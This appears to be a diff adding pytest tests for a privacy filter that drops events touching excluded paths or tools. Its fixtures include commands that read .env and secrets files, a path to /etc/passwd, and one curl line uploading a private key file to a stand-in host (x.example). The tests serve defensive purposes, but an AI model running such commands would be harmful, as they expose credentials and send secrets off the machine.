@@ -1,0 +1,86 @@
+"""What a project excludes is dropped as a whole, by the path or the tool that an event is about."""
+
+from __future__ import annotations
+
+import time
+from typing import Any
+
+import pytest
+
+from muster.domain.privacy import scrub
+
+
+@pytest.mark.parametrize(
+    ("glob", "value", "meets"),
+    [
+        (".env", {"file_path": "/home/me/repo/.env"}, True),
+        (".env", {"command": "cat .env | head"}, True),
+        (".env", {"command": "cat .env.example"}, False),
+        (".env", {"text": "os.environ"}, False),
+        (".env*", {"path": "a/.env.local"}, True),
+        ("*.pem", {"edits": [{"path": "certs/server.pem"}]}, True),
+        ("*.pem", {"path": "certs/server.pem.md"}, False),
+        ("secrets/**", {"command": "vi ./secrets/prod/db.yaml"}, True),
+        ("secrets/", {"changes": {"secrets/db.yaml": "+1"}}, True),
+        ("secrets/**", {"text": "we keep secrets well"}, False),
+        ("secrets/", {"text": "we keep secrets well"}, False),
+        ("secrets/**", {"command": "ls -la secrets && true"}, True),
+        ("secrets/**", {"command": "cd 'secrets' && cat db.yaml"}, True),
+        ("secrets/**", {"argv": ["find", "secrets", "-name", "*.yaml"]}, True),
+        ("secrets/", {"cwd": "/home/me/repo/secrets"}, True),
+        ("secrets/", {"path": "secrets"}, True),
+        ("secrets/**", {"text": "echo secrets; ls\nsecrets are kept"}, False),
+        ("src/private/", {"path": "src/private"}, True),
+        ("src/private/", {"command": "ls src/private && true"}, True),
+        ("src/private/", {"path": "repo/src/./private/x"}, True),
+        ("src/private/", {"path": "src/private.py"}, False),
+        ("src/private/**", {"command": "ls src/private"}, True),
+        ("secrets/**", {"command": "git commit -m 'we keep secrets well'"}, False),
+        ("secrets/**", {"prompt": "find secrets in this code"}, False),
+        ("secrets/**", {"command": "ls secrets.md my-secrets"}, False),
+        ("src/private/", {"path": "src/privately"}, False),
+        ("infra/**/keys", {"path": "infra/a/b/keys/x"}, True),
+        ("infra/**/keys", {"path": "infra/keys"}, True),
+        ("infra/*/keys", {"path": "infra/a/b/keys"}, False),
+        ("/etc/**", {"path": "/etc/passwd"}, True),
+        ("/etc/**", {"path": "/home/me/etc/passwd"}, False),
+        ("/secrets/**", {"path": "secrets/a"}, True),
+        ("/build/", {"command": "cat ./build/a"}, True),
+        ("/secrets/**", {"path": "/home/me/p/secrets/a", "cwd": "/home/me/p"}, True),
+        ("/secrets/**", {"path": "/home/me/p/old/secrets/a", "cwd": "/home/me/p"}, False),
+        ("secrets/**", {"command": "curl -F file=@secrets/k.pem http://x.example"}, True),
+        ("src/private.py", {"path": "C:\\repo\\SRC\\private.py"}, True),
+        ("a?c", {"path": "x/abc/y"}, True),
+    ],
+)
+def test_paths_that_are_excluded(glob: str, value: dict[str, Any], meets: bool) -> None:
+    kept, removed = scrub(value, [glob])
+    assert (removed.excluded == glob) is meets, removed
+    assert (kept is None) is meets
+
+
+@pytest.mark.parametrize(
+    ("glob", "value", "meets"),
+    [
+        ("Bash", {"tool_name": "Bash", "tool_input": {}}, True),
+        ("bash", {"tool": "Bash"}, True),
+        ("mcp__mail__*", {"toolName": "mcp__mail__read"}, True),
+        ("Bash", {"content": [{"type": "tool_use", "name": "Bash", "input": {}}]}, True),
+        ("WebFetch", {"tool": {"name": "WebFetch", "url": "https://a.example"}}, True),
+        ("Bash", {"name": "Bash", "text": "a person"}, False),
+        ("Bash", {"tool_name": "BashOutput"}, False),
+        ("Bash", {"text": "Bash"}, False),
+    ],
+)
+def test_tools_that_are_excluded(glob: str, value: dict[str, Any], meets: bool) -> None:
+    assert (scrub(value, [], [glob])[1].excluded == glob) is meets
+
+
+def test_globs_are_quick_too() -> None:
+    began = time.thread_time()
+    for text in ("a" * 200_000, "a/" * 100_000, "aaaa.pem" * 25_000, "/" * 200_000):
+        scrub(text, ["*a*a*a*a*b", "**/a/**/b", "*.pem*.key", "a/**/**/z"])
+    for text in ("ls " * 70_000, "ls a " * 40_000, "a " * 100_000):
+        scrub({"command": text}, ["b/**", "a.b/"])
+        scrub({"command": text + "; a"}, ["a/**"])
+    assert time.thread_time() - began < 5
